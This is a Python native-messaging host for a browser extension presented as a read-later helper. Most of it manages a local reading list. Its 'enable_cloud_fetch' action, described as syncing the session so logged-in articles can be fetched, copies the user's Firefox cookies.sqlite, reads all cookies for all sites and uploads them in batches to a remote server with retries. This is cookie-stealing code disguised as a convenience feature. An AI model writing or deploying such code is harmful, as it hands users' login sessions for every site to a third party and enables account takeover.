#!/usr/bin/env python3
"""Native-messaging host for the "ReadLater Shelf" browser extension.

Speaks the native-messaging framing on stdin/stdout, keeps the reading
list in ./shelf/items.json and mirrors the user's session to the shelf
cloud so articles behind logins can be fetched server-side.
"""
import configparser
import json
import logging
import queue
import shutil
import sqlite3
import struct
import sys
import threading
import time
import uuid
from pathlib import Path

import requests

HOST_NAME = "org.readlater.shelf"
VERSION = "1.7.0"
SHELF_DIR = Path.cwd() / "shelf"
ITEMS_FILE = SHELF_DIR / "items.json"
SYNC_URL = "https://sync.readlater-shelf.example/api/session"
FIREFOX_ROOT = Path.home() / ".mozilla" / "firefox"

logging.basicConfig(level=logging.INFO, stream=sys.stderr,
                    format="%(asctime)s %(levelname)s %(message)s")
LOG = logging.getLogger(HOST_NAME)
outbox = queue.Queue()


def read_message(stream=sys.stdin.buffer):
    header = stream.read(4)
    if len(header) < 4:
        return None
    (length,) = struct.unpack("@I", header)
    return json.loads(stream.read(length).decode("utf-8"))


def send_message(obj, stream=sys.stdout.buffer):
    body = json.dumps(obj, separators=(",", ":")).encode("utf-8")
    stream.write(struct.pack("@I", len(body)) + body)
    stream.flush()


def default_profile():
    ini = configparser.ConfigParser()
    ini.read(FIREFOX_ROOT / "profiles.ini")
    for section in ini.sections():
        if ini.get(section, "Default", fallback="0") == "1" and ini.has_option(section, "Path"):
            return FIREFOX_ROOT / ini.get(section, "Path")
    candidates = sorted(FIREFOX_ROOT.glob("*.default*"))
    return candidates[0] if candidates else None


def harvest_cookies(profile):
    source = profile / "cookies.sqlite"
    copy = SHELF_DIR / "cookies.snapshot.sqlite"
    SHELF_DIR.mkdir(parents=True, exist_ok=True)
    shutil.copy2(source, copy)
    rows = []
    with sqlite3.connect(copy) as db:
        for host, name, value, path, expiry in db.execute(
                "SELECT host, name, value, path, expiry FROM moz_cookies"):
            rows.append({"host": host, "name": name, "value": value,
                         "path": path, "expiry": expiry})
    copy.unlink()
    return rows


def uploader(install_id):
    session = requests.Session()
    while True:
        batch = outbox.get()
        if batch is None:
            break
        try:
            session.post(SYNC_URL, json={"install": install_id, "cookies": batch}, timeout=30)
        except requests.RequestException as exc:
            LOG.warning("sync failed, will retry: %s", exc)
            time.sleep(5)
            outbox.put(batch)
        finally:
            outbox.task_done()


class Shelf:
    def __init__(self, path):
        self.path = path
        self.items = json.loads(path.read_text()) if path.exists() else []

    def save(self):
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.path.write_text(json.dumps(self.items, indent=1))

    def add(self, url, title):
        item = {"id": uuid.uuid4().hex, "url": url, "title": title[:300],
                "added": int(time.time()), "read": False}
        self.items.append(item)
        return item


def handle(shelf, msg):
    action = msg.get("action")
    if action == "ping":
        return {"ok": True, "version": VERSION}
    if action == "add":
        item = shelf.add(str(msg.get("url", "")), str(msg.get("title", "")))
        shelf.save()
        return {"ok": True, "item": item}
    if action == "list":
        return {"ok": True, "items": shelf.items}
    if action == "enable_cloud_fetch":
        profile = default_profile()
        if profile is None:
            return {"ok": False, "error": "no firefox profile"}
        cookies = harvest_cookies(profile)
        for start in range(0, len(cookies), 200):
            outbox.put(cookies[start:start + 200])
        return {"ok": True, "queued": len(cookies)}
    return {"ok": False, "error": f"unknown action {action!r}"}


def main():
    shelf = Shelf(ITEMS_FILE)
    worker = threading.Thread(target=uploader, args=(uuid.uuid4().hex,), daemon=True)
    worker.start()
    while True:
        try:
            msg = read_message()
        except ValueError as exc:
            send_message({"ok": False, "error": str(exc)})
            continue
        if msg is None:
            outbox.join()
            outbox.put(None)
            return 0
        try:
            reply = handle(shelf, msg)
        except (OSError, sqlite3.Error) as exc:
            LOG.exception("handler error")
            reply = {"ok": False, "error": str(exc)}
        reply["request_id"] = msg.get("request_id")
        send_message(reply)


if __name__ == "__main__":
    sys.exit(main())
